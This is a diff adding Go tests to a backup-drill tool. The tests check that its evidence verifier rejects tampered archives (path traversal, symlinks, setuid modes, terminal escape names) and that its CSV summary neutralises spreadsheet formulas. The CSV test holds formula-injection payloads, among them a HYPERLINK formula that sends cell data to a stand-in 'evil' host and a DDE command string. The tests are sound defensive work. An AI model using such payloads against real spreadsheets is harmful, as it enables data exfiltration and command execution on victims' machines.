@@ -4,10 +4,12 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -15,6 +17,7 @@ import (
 	"github.com/firedrill-dev/firedrill/drill"
 	"github.com/firedrill-dev/firedrill/internal/evidence"
 	"github.com/firedrill-dev/firedrill/internal/evidence/evidencetest"
+	"github.com/firedrill-dev/firedrill/internal/finding"
 )
 
 // keyPair makes a key pair with the command itself.
@@ -177,4 +180,137 @@ func TestEvidence_RefusesToPushIntoABackupBucket(t *testing.T) {
 	assert.Equal(t, ExitUsage, res.code, res.String())
 	assert.Contains(t, res.stderr, "is the backup bucket of scenario shop-namespace")
 	assert.NotContains(t, res.stderr, "[load]", "refused before the drill starts")
+}
+
+func TestEvidence_VerifyHostileBundles(t *testing.T) {
+	dir, err := filepath.Abs(filepath.Join("..", "evidence", "testdata", "hostile"))
+	require.NoError(t, err)
+	pub := filepath.Join(dir, "firedrill-evidence.pub")
+	tests := []struct {
+		file string
+		code int
+		// want is in the output: the verdict, then what names the fault.
+		want []string
+	}{
+		{"00-good", ExitOK, []string{"INTACT: the signature verifies"}},
+		{"01-absolute-first", ExitDrillFailed, []string{"NOT INTACT", "UNSAFE   /report.md  an absolute path"}},
+		{"02-dir-traversal", ExitDrillFailed, []string{"NOT INTACT", "../../../../tmp/sec-evil-dir/"}},
+		{"03-dir-absolute", ExitDrillFailed, []string{"NOT INTACT", "/tmp/sec-evil-abs/"}},
+		{"04-symlink", ExitDrillFailed, []string{"NOT INTACT", "not a regular file"}},
+		{"05-hardlink", ExitDrillFailed, []string{"NOT INTACT", "not a regular file"}},
+		{"06-duplicate", ExitDrillFailed, []string{"NOT INTACT", "a second entry with the same name"}},
+		{"07-after-eof", ExitDrillFailed, []string{"NOT INTACT", "after the archive's end-of-archive marker"}},
+		{"08-second-gzip-member", ExitDrillFailed, []string{"NOT INTACT", "a second gzip member"}},
+		{"09-dir-with-size", ExitDrillFailed, []string{"NOT INTACT", "a directory entry that claims 1024 bytes"}},
+		{"10-manifest-lists-twice", ExitDrillFailed, []string{"NOT INTACT", `lists "report.md" twice`}},
+		{"11-short-sig", ExitDrillFailed, []string{"NOT INTACT", "SIGNATURE"}},
+		{"12-manifest-extra-byte", ExitDrillFailed, []string{"NOT INTACT", "SIGNATURE"}},
+		{"13-setuid-mode", ExitDrillFailed, []string{"NOT INTACT", "mode 4777"}},
+		{"14-not-gzip", ExitDrillFailed, []string{"NOT INTACT", "not a gzip archive"}},
+		{"15-empty", ExitDrillFailed, []string{"NOT INTACT", "not a gzip archive"}},
+		{"16-signed-traversal-name", ExitDrillFailed, []string{"NOT INTACT", "the manifest lists a path that is not a file under the drill's directory"}},
+		{"18-ansi-name", ExitDrillFailed, []string{"NOT INTACT: 6 problem(s)", `"\r\x1b[2K\x1b[1A`}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.file, func(t *testing.T) {
+			res := run(t, context.Background(), nil, "evidence", "verify", filepath.Join(dir, tt.file+".tar.gz"), "--public-key", pub)
+			assert.Equal(t, tt.code, res.code, res.String())
+			for _, w := range tt.want {
+				assert.Contains(t, res.stdout, w)
+			}
+			// Nothing of the bundle reaches the terminal unescaped: no
+			// escape sequence, no carriage return to draw over a line.
+			assert.NotContains(t, res.stdout+res.stderr, "\x1b")
+			assert.NotContains(t, res.stdout+res.stderr, "\r")
+			if tt.code != ExitOK {
+				assert.NotContains(t, res.stdout, "\nINTACT")
+				assert.False(t, strings.HasPrefix(res.stdout, "INTACT"))
+			}
+		})
+	}
+}
+
+// writeDrill records a drill whose restore, checks and protection all
+// passed, with the result given: only the result differs.
+func writeDrill(t *testing.T, state, id, scenario string, at time.Time, result drill.Result) {
+	t.Helper()
+	d, err := drill.CreateDir(state, id)
+	require.NoError(t, err)
+	verified := true
+	var phases []drill.Phase
+	for _, s := range drill.Steps() {
+		phases = append(phases, drill.Phase{Name: s, Status: drill.PhasePassed, CountsTowardRTO: s.CountsTowardRTO()})
+	}
+	require.NoError(t, d.WriteReport(&drill.Report{DrillID: id, Scenario: scenario, StartedAt: at, Result: result, Phases: phases,
+		OrderVerified: &verified, RTO: drill.Measure(4*time.Hour, time.Hour), RPO: drill.Measure(24*time.Hour, time.Hour),
+		Findings: []finding.Finding{
+			finding.Pass("protection.bucket.object-lock", "s3://b", "locked"),
+			finding.Pass("protection.backup.retention", "s3://b", "retained"),
+			finding.Pass("protection.canary.delete", "s3://b", "refused"),
+		}}))
+	require.NoError(t, os.WriteFile(d.File("retrospective.md"), []byte("# Retrospective\n"), 0o644))
+}
+
+// A drill that failed, errored, was interrupted or died supports no
+// control, even when its restore passed; the summary says why (issue 14,
+// item 10).
+func TestEvidenceSummary_OnlyPassingDrillsSupportControls(t *testing.T) {
+	state := t.TempDir()
+	t0 := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
+	results := []drill.Result{drill.ResultPass, drill.ResultFail, drill.ResultError, drill.ResultInterrupted, drill.ResultRunning}
+	for i, r := range results {
+		writeDrill(t, state, fmt.Sprintf("fd-2026110%d-090000-aaaa", i+1), "region-loss", t0.Add(time.Duration(i)*24*time.Hour), r)
+	}
+	res := run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": state}, "evidence", "summary", "-o", "json")
+	require.Equal(t, ExitOK, res.code, res.String())
+	var rows []summaryRow
+	require.NoError(t, json.Unmarshal([]byte(res.stdout), &rows))
+	require.Len(t, rows, len(results))
+	assert.Len(t, rows[0].Controls, 8, "the drill that passed supports every built-in control")
+	assert.Empty(t, rows[0].NotSupported)
+	for _, row := range rows[1:] {
+		assert.Empty(t, row.Controls, row.Result)
+		require.Len(t, row.NotSupported, 8, row.Result)
+		assert.Contains(t, row.NotSupported[0].Why, "only a drill that passed supports a control", row.Result)
+	}
+
+	res = run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": state}, "evidence", "summary")
+	require.Equal(t, ExitOK, res.code, res.String())
+	for _, want := range []string{"8  ", "0 (drill fail)", "0 (drill error)", "0 (drill interrupted)", "0 (drill running)"} {
+		assert.Contains(t, res.stdout, want)
+	}
+}
+
+// Cells a spreadsheet would run as formulas are neutralised (issue 15,
+// section 7).
+func TestEvidenceSummary_CSVCellsAreNotFormulas(t *testing.T) {
+	state := t.TempDir()
+	t0 := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
+	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
+	for i, name := range hostile {
+		writeDrill(t, state, fmt.Sprintf("fd-2026110%d-090000-aaaa", i+1), name, t0.Add(time.Duration(i)*time.Hour), drill.ResultPass)
+	}
+	res := run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": state}, "evidence", "summary", "-o", "csv")
+	require.Equal(t, ExitOK, res.code, res.String())
+	rows, err := csv.NewReader(strings.NewReader(res.stdout)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, len(hostile)+1)
+	for i, name := range hostile {
+		assert.Equal(t, "'"+name, rows[i+1][1], "scenario cell")
+		for _, cell := range rows[i+1] {
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
+			}
+		}
+	}
+	assert.Equal(t, "3600.0", rows[1][4], "numbers stay numbers")
+}
+
+func TestCSVCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "region-loss": "region-loss", "=1+1": "'=1+1", "+1": "'+1", "-1+1": "'-1+1", "@x": "'@x",
+		"\tx": "'\tx", "\rx": "'\rx", "-12": "-12", "-0.5": "-0.5", "-": "'-", "-.5": "'-.5", "-1e3": "'-1e3", "95.0": "95.0",
+	} {
+		assert.Equal(t, want, csvCell(in), "%q", in)
+	}
 }
